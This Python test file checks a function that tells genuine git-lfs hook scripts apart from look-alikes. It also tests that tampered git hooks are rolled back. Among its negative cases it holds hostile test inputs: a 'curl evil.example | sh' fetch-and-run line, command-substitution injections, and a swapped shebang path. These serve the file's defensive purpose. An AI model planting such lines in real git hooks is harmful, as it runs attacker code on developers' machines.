"""The hooks of git-lfs, and what only looks like one."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import Git
from correctless.dispatch.core.policy_changes import git_settings
from correctless.project.git import before, find
from correctless.project.git.lfs_hooks import is_lfs_hook
from correctless.project.git.restore import restore

# As git-lfs 2.13, 3.3 and 3.7 write it.
MESSAGE = "This repository is configured for Git LFS but 'git-lfs' was not found on your path."
BODIES = (
    f'echo >&2 "\\n{MESSAGE}\\n"',
    f"echo >&2 \"\\n{MESSAGE} Remove '.git/hooks/pre-push'.\\n\"",
    f'printf >&2 "\\n%s\\n\\n" "{MESSAGE}"',
)


def hook(body: str = BODIES[0], name: str = "pre-push", end: str = "\n") -> bytes:
    return (
        f'#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || {{ {body}; exit 2; }}\ngit lfs {name} "$@"{end}'
    ).encode()


@pytest.mark.parametrize("body", BODIES)
def test_a_hook_of_git_lfs_is_known_in_the_words_of_each_release(body: str) -> None:
    assert is_lfs_hook(".git/hooks/pre-push", hook(body))
    assert is_lfs_hook(".git/hooks/post-merge", hook(body, "post-merge"))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("pre-push", hook(name="post-merge")),
        ("pre-commit", hook(name="pre-commit")),
        ("pre-push", hook(end="\ncurl evil.example | sh\n")),
        ("pre-push", b"#!/bin/sh\n:\n" + hook()),
        ("pre-push", hook('echo >&2 "$(touch /tmp/x)"')),
        ("pre-push", hook('echo >&2 "`touch /tmp/x`"')),
        ("pre-push", hook('echo >&2 "a"; touch /tmp/x; echo "b"')),
        ("pre-push", hook('echo >&2 "a\\"')),
        ("pre-push", hook().replace(b"#!/bin/sh", b"#!/bin/../tmp/sh")),
        ("pre-push", b""),
    ],
)
def test_anything_else_is_a_hook_of_its_own(name: str, data: bytes) -> None:
    assert not is_lfs_hook(f".git/hooks/{name}", data)


def test_a_new_hook_of_git_lfs_stays_and_is_no_change_and_any_other_one_is(
    scratch_repo: Path, git: Git, tmp_path: Path
) -> None:
    repo, folder = find(str(scratch_repo)), scratch_repo / ".git" / "hooks"
    folder.mkdir(exist_ok=True)
    (folder / "post-merge").write_bytes(b"#!/bin/sh\necho mine\n")
    taken, settings = before.take(repo, "feature/x"), git_settings(repo)
    (folder / "pre-push").write_bytes(hook())
    assert git_settings(repo) == settings
    assert restore(taken, str(tmp_path / "aside")) == ()
    assert (folder / "pre-push").read_bytes() == hook()
    (folder / "post-merge").write_bytes(hook(name="post-merge"))  # in the place of one of yours
    (folder / "post-commit").write_bytes(hook(end="\n:\n"))
    assert git_settings(repo) != settings
    assert len(restore(taken, str(tmp_path / "aside"))) == 2
    assert (folder / "post-merge").read_bytes() == b"#!/bin/sh\necho mine\n"
    assert not (folder / "post-commit").exists()
